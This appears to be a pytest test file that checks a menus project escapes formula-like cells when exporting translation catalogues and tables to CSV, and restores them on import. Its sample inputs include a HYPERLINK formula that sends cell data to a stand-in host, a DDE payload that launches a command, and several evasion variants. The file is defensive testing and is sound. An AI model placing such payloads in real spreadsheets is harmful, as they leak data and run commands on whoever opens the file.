"""No cell of an exported file is a formula, and each comes back as it was."""

import csv
import io

import pytest

from menus.spreadsheet_cells import cell_text, file_text, text_cell, text_file
from menus.translations.catalogue import CatalogueLine
from menus.translations.spreadsheet import format_csv, parse_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "+254711000111,x",
    "+25471100011a",
    "\uff1d1+1",
    "- a list",
    "'=1",
    "''=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_and_comes_back(text: str) -> None:
    cell = text_cell(text)
    assert isinstance(cell, str)
    assert cell == f"'{text}"
    assert cell_text(cell) == text


@pytest.mark.parametrize(
    "value",
    ["+254711000111", "Water", "'quoted'", "", "1 + 1", "a=b", 5, -5, "-1.31", "-7", "\u0645\u0627\u0621"],
)
def test_everything_else_stays_as_it_is(value: object) -> None:
    assert text_cell(value) == value
    if isinstance(value, str):
        assert cell_text(value) == value


@pytest.mark.parametrize("text", [text for text in FORMULAS if text == text.strip()])
def test_translations_go_out_as_text_and_come_back(text: str) -> None:
    written = format_csv([CatalogueLine("screens.start", text, {"sw": text}, text)], "en", ["sw"])
    (row,) = list(csv.reader(io.StringIO(written, newline="")))[1:]
    assert all(cell.startswith("'") for cell in row[1:])
    (line,) = parse_csv(written, "en")
    assert (line.source, line.translations) == (text, {"sw": text})


@pytest.mark.parametrize("separator", [",", ";"])
def test_a_table_goes_out_as_text_and_comes_back(separator: str) -> None:
    written = io.StringIO()
    rows = [["name", "lat"], ["=1+1", "-1.31"], ["@x\ny", "'=2"], ["Kibera", "-1+2"]]
    csv.writer(written, delimiter=separator, lineterminator="\n").writerows(rows)
    out = text_file(written.getvalue())
    cells = [cell for row in csv.reader(io.StringIO(out, newline=""), delimiter=separator) for cell in row]
    assert cells == ["name", "lat", "'=1+1", "-1.31", "'@x\ny", "''=2", "Kibera", "'-1+2"]
    assert file_text(out) == written.getvalue()


def test_a_table_without_formulas_stays_to_the_letter() -> None:
    text = 'name , "lat"\r\n\r\nKibera,-1.31\r\n'
    assert text_file(text) == file_text(text) == text
